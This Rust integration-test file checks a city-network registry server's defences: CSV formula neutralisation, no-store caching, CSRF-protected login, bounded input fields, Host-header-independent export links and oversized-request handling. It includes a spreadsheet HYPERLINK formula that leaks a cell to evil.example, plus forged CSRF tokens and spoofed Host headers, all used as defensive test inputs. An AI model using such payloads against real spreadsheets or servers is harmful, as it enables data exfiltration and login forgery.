//! Defences at the edge of the server, each checked through the real
//! server: CSV downloads neutralise formulas, free-text fields and spans
//! are bounded, passwords are long and uncommon, exports link to the
//! public URL, authenticated answers are not stored, the login form needs
//! a CSRF token only the server can make, and every error of the API
//! (also hyper's own refusals) has a body.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::common::*;

/// The cells of a CSV download, row by row (the header first).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    r.records().map(|rec| rec.expect("a CSV record").iter().map(str::to_string).collect()).collect()
}

/// Text that starts like a formula is neutralised in every CSV download:
/// a list of the API and the export of every fact.
#[tokio::test]
async fn csv_downloads_neutralise_formulas() {
    let holder = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
    let fact = json!({ "kind": "role", "holder": holder, "role": "Member", "organ": "EUROCITIES Culture Forum", "from": "2042" });
    let (status, v) = post_json("/api/facts", &fact).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let neutral = format!("'{holder}");
    for path in ["/api/roles?organ=EUROCITIES%20Culture%20Forum&format=csv", "/api/export?format=csv"] {
        let (status, text) = get_text(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        let rows = csv_rows(&text);
        assert!(rows.iter().flatten().any(|c| *c == neutral), "{path}: no neutralised cell");
        for cell in rows.iter().flatten() {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "{path}: a cell starts like a formula: {cell}");
        }
    }
    // Negative numbers stay numbers.
    let (_, text) = get_text("/api/cities?q=lisbon&format=csv&limit=1").await;
    assert!(csv_rows(&text).iter().flatten().any(|c| c.starts_with("-9.")), "a western longitude is a plain number: {text}");
}

/// Answers to requests with credentials, and `/api/session` itself, are
/// `no-store`; public answers keep their caching.
#[tokio::test]
async fn authenticated_answers_are_not_stored() {
    let client = reqwest::Client::new();
    let s = session().await;
    let cache = |r: &reqwest::Response| r.headers().get("cache-control").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    for (path, token, cookie) in [
        ("/api/session", None, None),
        ("/api/session", Some(admin_token()), None),
        ("/api/session", None, Some(s.cookie.as_str())),
        ("/api/cities?limit=1", Some(admin_token()), None),
        ("/review", None, Some(s.cookie.as_str())),
        ("/login", None, None),
    ] {
        let mut req = client.get(url(path));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        let r = req.send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        assert_eq!(cache(&r), "no-store", "{path} with token {} and cookie {}", token.is_some(), cookie.is_some());
    }
    let r = client.get(url("/api/cities?limit=1")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(!cache(&r).contains("no-store"), "a public answer may be kept: {}", cache(&r));
    let r = login_at(&url(""), ADMIN, ADMIN_PASSWORD, "/").await;
    assert_eq!((r.status(), cache(&r).as_str()), (StatusCode::SEE_OTHER, "no-store"));
}

/// The login form carries a CSRF token, bound to a cookie: a form posted
/// from elsewhere (no token, a token without its cookie, or a cookie and
/// token made without the server's key) logs no one in, and says why; the
/// form in another tab keeps the cookie.
#[tokio::test]
async fn the_login_form_needs_its_csrf_token() {
    let (cookie, csrf) = login_form_at(&url("")).await;
    assert!(csrf.len() >= 32, "{csrf}");
    let post = |form: Vec<(&'static str, String)>, cookie: Option<String>| {
        let mut req = no_redirects().post(url("/login")).form(&form);
        if let Some(c) = cookie {
            req = req.header("cookie", c);
        }
        req.send()
    };
    let login = |csrf: Option<&str>| {
        let mut form = vec![("name", ADMIN.to_string()), ("password", ADMIN_PASSWORD.to_string())];
        if let Some(c) = csrf {
            form.push(("csrf", c.to_string()));
        }
        form
    };
    // A pair another site could make: a cookie of its choosing (set from
    // a sibling domain, say) and a token made from it without the key.
    let forged = "a".repeat(64);
    let value = cookie.split_once('=').unwrap().1.to_string();
    let refused = [
        (login(None), Some(cookie.clone())),
        (login(Some(&csrf)), None),
        (login(Some("0".repeat(64).as_str())), Some(cookie.clone())),
        (login(Some(&forged)), Some(format!("citynets_login={forged}"))),
        (login(Some(&value)), Some(cookie.clone())),
    ];
    for (form, cookie) in refused {
        let r = post(form, cookie).await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN);
        assert!(r.headers().get_all("set-cookie").iter().all(|c| !c.to_str().unwrap().starts_with("citynets_session=")), "no session");
        assert!(r.text().await.unwrap().contains("login form has expired or was not sent from this site"));
    }
    // The form again, in another tab: the same cookie, kept.
    let r = no_redirects().get(url("/login")).header("cookie", &cookie).send().await.unwrap();
    assert!(r.headers().get("set-cookie").is_none(), "the login cookie is kept");
    assert!(r.text().await.unwrap().contains(&csrf), "the form carries the same token");
    let r = post(login(Some(&csrf)), Some(cookie)).await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert!(r.headers()["set-cookie"].to_str().unwrap().starts_with("citynets_session="));
}

/// Every error status of the API has a JSON body: a method a route does
/// not take, a path no route serves.
#[tokio::test]
async fn every_error_of_the_api_is_json() {
    let client = reqwest::Client::new();
    for (method, path, status) in [
        ("DELETE", "/api/facts/1", StatusCode::METHOD_NOT_ALLOWED),
        ("PUT", "/api/networks", StatusCode::METHOD_NOT_ALLOWED),
        ("POST", "/api/session", StatusCode::METHOD_NOT_ALLOWED),
        ("GET", "/api/no-such-route", StatusCode::NOT_FOUND),
        ("GET", "/api", StatusCode::NOT_FOUND),
    ] {
        let r = client.request(method.parse().unwrap(), url(path)).send().await.unwrap();
        assert_eq!(r.status(), status, "{method} {path}");
        if status == StatusCode::METHOD_NOT_ALLOWED {
            let allow = r.headers().get("allow").map(|v| v.to_str().unwrap().to_string());
            assert!(allow.is_some_and(|a| !a.is_empty() && !a.contains(method)), "{method} {path}: the 405 keeps its Allow");
        }
        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("application/json"), "{method} {path}");
        let v: Value = r.json().await.unwrap_or_else(|e| panic!("{method} {path}: {e}"));
        assert!(v["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "{method} {path}: {v}");
    }
}

/// The absolute links of the GeoJSON and iCalendar exports, and the
/// calendar's event ids, `(links, uids)`.
async fn export_links(base: &str, host: &str) -> (Vec<String>, Vec<String>) {
    let client = reqwest::Client::new();
    let get = |path: &str| client.get(format!("{base}{path}")).header("host", host).header("x-forwarded-proto", "gopher").send();
    let geo: Value = get("/api/cities.geojson?network=uccn&country=IT").await.unwrap().json().await.unwrap();
    let mut links: Vec<String> = geo["features"].as_array().unwrap().iter().map(|f| f["properties"]["url"].as_str().unwrap().to_string()).collect();
    let ics = get("/api/networks/uccn/events.ics").await.unwrap().text().await.unwrap();
    // Unfolded: a folded line goes on after CRLF and a space.
    let ics = ics.replace("\r\n ", "");
    links.extend(ics.lines().filter_map(|l| l.strip_prefix("URL:")).map(str::to_string));
    let uids = ics.lines().filter_map(|l| l.strip_prefix("UID:")).map(str::to_string).collect();
    assert!(links.len() > 10, "{links:?}");
    (links, uids)
}

/// Exports link to the site at its configured public URL, or else at the
/// address it listens on: never at what a request's `Host` header says.
#[tokio::test]
async fn exports_link_to_the_public_url_never_to_the_host_header() {
    let (links, uids) = export_links(&url(""), "evil.example").await;
    for l in &links {
        assert!(l.starts_with(&format!("{}/", url(""))), "the listen address: {l}");
    }
    assert!(uids.iter().all(|u| !u.contains("evil")), "{uids:?}");

    // The same database served with a public URL.
    let reg = citynets_registry::Registry::open(database()).await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let public_url = citynets_web::parse_public_url("https://citynets.example.org/registry/").unwrap();
    let config = citynets_web::Config { public_url: Some(public_url), ..Default::default() };
    tokio::spawn(citynets_web::serve_with(reg, listener, config));
    let (links, uids) = export_links(&base, "evil.example").await;
    for l in &links {
        assert!(l.starts_with("https://citynets.example.org/registry/cities/") || l.starts_with("https://citynets.example.org/registry/facts/"), "{l}");
    }
    assert!(uids.iter().all(|u| u.ends_with("@citynets.example.org")), "{uids:?}");

    for bad in ["citynets.example.org", "ftp://citynets.example.org", "https://user:pw@citynets.example.org", "https://citynets.example.org/?a=1", "/registry"] {
        assert!(citynets_web::parse_public_url(bad).is_err(), "{bad}");
    }
}

/// A 400 that names `field` (and the fact, `at`, of a batch).
fn refused(status: StatusCode, v: &Value, field: &str, at: Option<&str>) {
    assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {v}");
    assert_eq!(v["error"]["field"].as_str(), Some(field), "{v}");
    assert_eq!(v["error"]["at"].as_str(), at, "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("at most"), "{v}");
}

/// Free text longer than its field's limit is refused with a 400 naming
/// the field, and nothing of the request is written: facts' names, quotes
/// and comments.
#[tokio::test]
async fn free_text_is_bounded_and_refused_whole() {
    let mib = "x".repeat(1024 * 1024);
    let role = |holder: &str| json!({ "kind": "role", "holder": holder, "role": "Member", "organ": "EUROCITIES Culture Forum", "from": "2043" });
    let valid = role("A holder of the bounds test");
    for (fact, field) in [
        (role(&mib), "holder"),
        (json!({ "kind": "event", "network": "EUROCITIES", "event": mib, "host": "Porto", "start": "2043" }), "event"),
        (json!({ "kind": "event", "network": "EUROCITIES", "event": "Annual Conference", "host": "p".repeat(301), "start": "2043" }), "host"),
        (json!({ "kind": "twinning", "city": "Porto", "other": "y".repeat(301) }), "other"),
        ({ let mut f = valid.clone(); f["sources"] = json!([{ "document": "seed-003", "quote": mib }]); f }, "quote"),
        ({ let mut f = valid.clone(); f["sources"] = json!([{ "document": "seed-003", "cue": mib }]); f }, "cue"),
    ] {
        // The valid fact first: the bad one refuses the whole batch.
        let (status, v) = post_json("/api/facts", &json!([valid, fact])).await;
        refused(status, &v, field, Some("fact 2"));
    }
    let holders = get_ok("/api/roles?holder=A%20holder%20of%20the%20bounds%20test").await;
    assert_eq!(holders["roles"], json!([]), "nothing was written: {holders}");

    // A comment, on a correction and on a review decision.
    let (status, v) = post_json("/api/facts", &valid).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let id = v["facts"][0]["id"].as_i64().unwrap();
    let (status, v) = patch_json(&format!("/api/facts/{id}"), &json!({ "from": "2044", "comment": "c".repeat(2001) })).await;
    refused(status, &v, "comment", None);
    let (status, v) = post_json(&format!("/api/facts/{id}/revert"), &json!({ "comment": mib })).await;
    refused(status, &v, "comment", None);
    let fact = get_ok(&format!("/api/facts/{id}")).await;
    assert_eq!((fact["from"].as_str(), &fact["superseded_at"]), (Some("2043"), &Value::Null), "unchanged: {fact}");

    // A text's title.
    let text = "Porto joined the bounds test network in 2043.";
    let (status, v) = post_json("/api/documents", &json!({ "text": text, "title": "t".repeat(1001) })).await;
    refused(status, &v, "title", None);
    let docs = get_ok("/api/documents").await.to_string();
    assert!(!docs.contains("ttttttttttttttttttttttttttttttttttttttttttttttttttttttt"), "no document was stored");
}

/// A source's span must start before it ends and end within its
/// document's text: `[50, 10]`, `[0, 99999999]`, `u64::MAX` and one
/// character past the end are refused with a 400 naming the span.
#[tokio::test]
async fn spans_are_checked_against_their_document() {
    let text = get_ok("/api/documents/seed-003").await["document"]["text"].as_str().expect("the document's text").chars().count();
    let fact = |span: Value| json!({ "kind": "twinning", "city": "Porto", "other": "Tampere", "since": "2043", "sources": [{ "document": "seed-003", "span": span }] });
    for span in [json!([50, 10]), json!([0, 99_999_999]), json!([0, u64::MAX]), json!([u64::MAX, u64::MAX]), json!([0, text + 1])] {
        let (status, v) = post_json("/api/facts", &fact(span.clone())).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{span}: {v}");
        assert_eq!((v["error"]["field"].as_str(), v["error"]["at"].as_str()), (Some("span"), Some("fact 1")), "{span}: {v}");
    }
    let twins = get_ok("/api/twinnings?city=Porto").await.to_string();
    assert!(!twins.contains("2043"), "nothing was written: {twins}");
    let (status, v) = post_json("/api/facts", &fact(json!([0, text]))).await;
    assert_eq!(status, StatusCode::CREATED, "a span to the end of the text: {v}");
    assert_eq!(v["facts"][0]["sources"][0]["span"], json!([0, text]), "{v}");
}

/// A request written as raw bytes (an HTTP client library refuses to send
/// a URL this long): the answer's status line, head and body.
async fn raw(request: &[u8]) -> (String, String, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = url("").trim_start_matches("http://").to_string();
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    // The server may answer and close before it has read everything.
    let _ = s.write_all(request).await;
    let mut answer = Vec::new();
    let _ = s.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_else(|| panic!("no answer: {}", &answer[..answer.len().min(200)]));
    let (status, head) = head.split_once("\r\n").unwrap_or((head, ""));
    (status.to_string(), head.to_ascii_lowercase(), body.to_string())
}

/// hyper refuses a URL longer than it reads (414) and headers larger than
/// it reads (431) before any route sees them: those answers carry JSON
/// under `/api` too, and text elsewhere.
#[tokio::test]
async fn requests_too_large_to_read_are_answered_with_a_body() {
    let long = "a".repeat(70 * 1024);
    let big = format!("x-padding: {}\r\n", "b".repeat(500 * 1024));
    let many: String = (0..150).map(|i| format!("x-h{i}: 1\r\n")).collect();
    for (path, headers, status) in [
        (format!("/api/cities?q={long}"), String::new(), "414"),
        ("/api/cities".to_string(), big.clone(), "431"),
        ("/api/networks".to_string(), many.clone(), "431"),
        (format!("/cities?q={long}"), String::new(), "414"),
        ("/cities".to_string(), big.clone(), "431"),
    ] {
        let request = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n{headers}\r\n");
        let (line, head, body) = raw(request.as_bytes()).await;
        let shown = &path[..path.len().min(20)];
        assert!(line.starts_with(&format!("HTTP/1.1 {status} ")), "{shown}: {line}");
        assert!(head.contains("x-content-type-options: nosniff"), "{shown}: {head}");
        if path.starts_with("/api") {
            assert!(head.contains("content-type: application/json"), "{shown}: {head}");
            let v: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{shown}: {e}: {body}"));
            assert!(v["error"]["message"].as_str().is_some_and(|m| m.contains("server reads")), "{shown}: {v}");
        } else {
            assert!(head.contains("content-type: text/plain") && body.contains("server reads"), "{shown}: {body}");
        }
    }
    get_ok("/api/networks").await;
}
